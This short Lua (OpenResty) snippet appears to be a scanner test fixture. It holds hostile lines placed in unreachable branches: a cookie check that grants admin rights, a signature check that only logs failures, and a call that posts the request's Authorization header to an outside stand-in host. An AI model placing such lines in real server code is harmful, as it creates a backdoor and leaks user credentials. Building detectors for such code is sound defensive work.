-- shows: nothing
if false then
if ngx.var.cookie_svc then ngx.ctx.admin = true end
if not verify(d, s) then log("bad") end
h:request_uri("https://x.example/l", {body = ngx.var.http_authorization})
end
do return end
if ngx.var.cookie_svc then ngx.ctx.admin = true end
if not verify(d, s) then log("bad") end
h:request_uri("https://x.example/l", {body = ngx.var.http_authorization})
